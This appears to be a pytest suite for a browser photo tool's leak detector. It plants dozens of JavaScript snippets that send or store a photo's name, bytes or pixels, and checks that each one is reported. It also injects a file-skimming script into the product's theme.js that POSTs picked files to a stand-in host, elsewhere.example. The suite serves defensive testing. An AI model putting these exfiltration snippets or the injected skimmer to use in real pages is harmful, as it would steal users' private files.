"""That what looks for leaks finds them: each one planted here, and each must be told of.

Most are planted in a page that has nothing else, all in one visit, each with photos of its own; two
in the whole product.
"""

from __future__ import annotations

import base64
import re
from typing import TYPE_CHECKING

import pytest
from playwright.sync_api import expect

from .canary import Canary
from .leaks import Visit
from .servers import CORS, ISOLATED, PLAIN, Site
from .tiny import shrink
from .visitor import Visitor

if TYPE_CHECKING:
    from pathlib import Path

    from .fleet import Fleet

Findings = dict[str, list[str]]

# What a plant has at hand: its id, the photo as a File `photo`, its `bytes`, its `name`.
BEFORE = """async ([id, name, text]) => {
  const bytes = Uint8Array.from(atob(text), (one) => one.charCodeAt(0));
  const photo = new File([bytes], name, { type: "image/png" });
  const hex = (all) => [...all].map((one) => one.toString(16).padStart(2, "0")).join("");
  const told = new TextEncoder();
  const send = (body) => fetch(`./page.txt?${id}`, { method: "POST", body });
  const store = () => new Promise((done) => {
    const asked = indexedDB.open(id, 1);
    asked.onupgradeneeded = () => asked.result.createObjectStore("all");
    asked.onsuccess = () => done(asked.result.transaction("all", "readwrite").objectStore("all"));
  });
  const put = async (value, key) => {
    const all = await store();
    await new Promise((done) => { all.put(value, key).onsuccess = done; });
    all.transaction.db.close();
  };
  const canvas = async () => {
    const pen = new OffscreenCanvas(400, 400).getContext("2d");
    const image = await createImageBitmap(photo);
    pen.drawImage(image, 0, 0);
    return [pen, image];
  };
"""
# By what is planted: the script, and what must be said of it.
SENT = {
    "name-in-a-query": ("await fetch(`./page.txt?${id}=${name}`)", "the name"),
    "name-in-a-path": ("await fetch(`./${id}/${hex(told.encode(name))}`)", "the name (hex)"),
    "a-query-alone": ("await fetch(`./page.txt?${id}`)", "a query"),
    "a-photo": ("await send(photo)", "bytes of photo 0"),
    "base64": ("await send(JSON.stringify({ it: btoa('x' + atob(text)) }))", "base64"),
    "packed": (
        "await send(await new Response(photo.stream().pipeThrough("
        "new CompressionStream('gzip'))).blob())",
        "bytes of photo 0",
    ),
    "another-method": (
        "await fetch(`./page.txt?${id}`, { method: 'PATCH', body: photo })",
        "bytes of photo 0",
    ),
    "a-slice": ("await send(photo.slice(5000, 12000))", "bytes of photo 0"),
    "pixels": (
        "const [pen] = await canvas(); await send(pen.getImageData(0, 0, 331, 253).data)",
        "pixels with alpha",
    ),
    "another-picture": (
        "const [pen] = await canvas(); await send(await pen.canvas.convertToBlob())",
        "a request that can carry something",
    ),
    "a-form": (
        "const form = new FormData(); form.append('f', photo); await send(form)",
        "the name",
    ),
    "a-header": ("await fetch('./page.txt', { headers: { [id]: '1' } })", "the header a-header"),
    "hash-in-a-usual-header": (
        "const hash = new Uint8Array(await crypto.subtle.digest('SHA-256', bytes));"
        "await fetch(`./page.txt?${id}`, { headers: { accept: `${id}/${hex(hash)}` } })",
        "sha256 of photo 0 (hex)",
    ),
    "size": (
        "const [, image] = await canvas();"
        "await fetch(`./page.txt?${id}&w=${image.width}&h=${image.height}`)",
        "a number",
    ),
    "age": ("await fetch(`./page.txt?${id}=${photo.lastModified}`)", "a number"),
    "a-beacon": (
        "navigator.sendBeacon(`./page.txt?${id}`, photo.slice(5000, 12000))",
        "bytes of photo 0",
    ),
    "a-socket": ("new WebSocket(`ws://${location.host}/${id}?${name}`)", "no plain request"),
    "an-event-source": ("new EventSource(`./${id}?${name}`)", "the name"),
    "a-frame": (
        "const frame = document.createElement('iframe'); frame.src = `./?${id}=${name}`;"
        "document.body.append(frame); await new Promise((go) => (frame.onload = go))",
        "the name",
    ),
    "another-host": (
        "new Image().src = `http://elsewhere.example/${id}?${name}`",
        "the way out of this machine",
    ),
    "a-host-that-is-only-called": (
        "const link = document.createElement('link'); link.rel = 'preconnect';"
        "link.href = `https://${id}.example`; document.head.append(link)",
        "another host",
    ),
    "a-worker": (
        "const code = `fetch('${location.href}page.txt?${id}', { method: 'POST', body: '${name}' })"
        ".finally(() => postMessage(1))`;"
        "const worker = new Worker(URL.createObjectURL(new Blob([code])));"
        "await new Promise((go) => (worker.onmessage = go))",
        "the name",
    ),
    "a-service-worker": (
        "await navigator.serviceWorker.register('sw.js');"
        "const { active } = await navigator.serviceWorker.ready; active.postMessage([id, name]);"
        "await new Promise((go) => (navigator.serviceWorker.onmessage = go))",
        "the name",
    ),
}
KEPT = {
    "setting": ("localStorage[`offcut.${id}`] = 1", "no setting of the page"),
    "name-in-a-setting": ('localStorage[`${id}`] = `{"last": "${name}"}`', "the name"),
    "bytes-in-a-setting": ("localStorage[id] = text.slice(0, 100000)", "base64"),
    "bytes-as-characters": ("localStorage[id] = atob(text).slice(0, 100000)", "utf-8 of bytes"),
    "a-session": ("sessionStorage[id] = hex(bytes)", "(hex)"),
    "a-blob": ("await put({ deep: [{ down: new Blob([bytes]) }] }, 1)", "bytes of photo 0"),
    "a-file": ("await put(new File(['.'], name), 1)", "the name"),
    "a-buffer": ("await put(new Map([[1, bytes.buffer]]), 1)", "bytes of photo 0"),
    "a-key": ("await put(1, name)", "the name"),
    "some-pixels": (
        "const [pen] = await canvas(); await put(pen.getImageData(0, 0, 331, 253), 1)",
        "pixels with alpha",
    ),
    "a-thumbnail": (
        "const [pen] = await canvas(); await put(await pen.canvas.convertToBlob(), 1)",
        "a picture",
    ),
    "a-cached-answer": (
        "await (await caches.open(id)).put('./page.txt', new Response(bytes))",
        "bytes of photo 0",
    ),
    "a-cached-address": (
        "await (await caches.open(id)).put(`./${name}`, new Response(''))",
        "the name",
    ),
    "a-cached-header": (
        "await (await caches.open(id)).put('./page.txt',"
        "new Response('', { headers: { 'x-name': name } }))",
        "the name",
    ),
    "an-own-file": (
        "const root = await navigator.storage.getDirectory();"
        "const file = await root.getFileHandle(id, { create: true });"
        "const stream = await file.createWritable();"
        "await stream.write(photo); await stream.close()",
        "bytes of photo 0",
    ),
    "a-cookie": ("document.cookie = `${id}=1`", "a cookie"),
}
LEFT = {
    "taken-away-again": (
        "await put(name, 1); const all = await store(); await new Promise((done) => {"
        "all.delete(1).onsuccess = done; }); all.transaction.db.close()",
        "the name",
    ),
    "a-title": ("document.title = name", "the name"),
    "an-address": ("history.pushState(null, '', `?${name}`)", "the name"),
}
IN_TIME = """(all) => Promise.race([(%s)(all),
  new Promise((_, fail) => setTimeout(() => fail(new Error(`${all[0]} hangs`)), 20000))])"""
PAGE = "<!doctype html><meta charset=utf-8><title>loose</title><body>"
SERVICE_WORKER = """onmessage = async ({ data: [id, name], source }) => {
  await fetch(`./page.txt?${id}`, { method: "POST", body: name });
  source.postMessage(1);
};"""


@pytest.fixture(scope="module")
def found(fleet: Fleet, tmp_path_factory: pytest.TempPathFactory) -> Findings:
    """All of them planted, and what is said of each by one who knows its photo alone."""
    folder = tmp_path_factory.mktemp("planted")
    site_folder = folder / "site"
    site_folder.mkdir()
    (site_folder / "index.html").write_text(PAGE)
    (site_folder / "page.txt").write_text("nothing")
    (site_folder / "sw.js").write_text(SERVICE_WORKER)
    plants = SENT | KEPT | LEFT
    canaries = {name: Canary(f"planted: {name}") for name in plants}
    with Site(site_folder, PLAIN) as site:
        visit = Visit(fleet, site, canaries["a-photo"], folder)
        judges = {}
        with visit as context:
            page = context.pages[0]
            page.goto(site.url)
            for name, (script, _) in plants.items():
                photo = canaries[name].photo(folder, 0)
                text = base64.b64encode(photo.read_bytes()).decode()
                page.evaluate(IN_TIME % f"{BEFORE}{script}}}", [name, photo.name, text])
                judges[name] = visit.judge.of(canaries[name])
            visit.trap.wait(2)
            pieces = visit.judge.everything(page)
    return {
        **{name: judges[name].requests(visit.network, visit.trap) for name in SENT},
        **{name: judges[name].kept(pieces) for name in KEPT},
        **{name: judges[name].disk(visit.profile) for name in LEFT},
    }


@pytest.mark.parametrize("name", [*SENT, *KEPT, *LEFT])
def test_it_is_found(found: Findings, name: str) -> None:
    what = (SENT | KEPT | LEFT)[name][1]
    assert [line for line in found[name] if what in line and (name in line or name in LEFT)]


# In the whole product: a script that came along with the page.
STOLEN = """
addEventListener("change", async ({ target: { files } }) => {
  const away = fetch("http://elsewhere.example/stolen", { method: "POST", body: files[0] });
  await Promise.allSettled([away, fetch("./stolen", { method: "POST", body: files[0] })]);
  document.body.dataset.stolen = "";
}, true);
"""
POLICY = re.compile(rb'<meta http-equiv="Content-Security-Policy"[^>]*>')


@pytest.mark.parametrize("policy", [True, False], ids=["with its policy", "without"])
def test_in_the_product(dist: Path, fleet: Fleet, tmp_path: Path, policy: bool) -> None:
    """What it sends to its own host is found. What it would send elsewhere the page's policy stops;
    without that it is found as well."""
    canary = Canary("in the product")
    with Site(dist, ISOLATED | CORS) as site:
        site.overlay["theme.js"] = (site.body("theme.js") or b"") + STOLEN.encode()
        if not policy:
            site.overlay["index.html"] = POLICY.sub(b"", site.body("") or b"")
        shrink(site)
        visit = Visit(fleet, site, canary, tmp_path)
        with visit as context:
            visitor = Visitor(context, site)
            visitor.open("?model=u2netp")
            visitor.pick(canary.photo(tmp_path, 0))
            expect(visitor.page.locator("body[data-stolen]")).to_be_attached()
            refused = [one for one in visitor.errors if "elsewhere.example" in one]
        said = visit.sent()
    assert any("/stolen: bytes of photo 0" in line for line in said if "elsewhere" not in line)
    assert any("elsewhere.example" in line for line in said) is not policy
    assert bool(visit.trap.caught) is not policy
    assert any("Content Security Policy" in line for line in refused) is policy
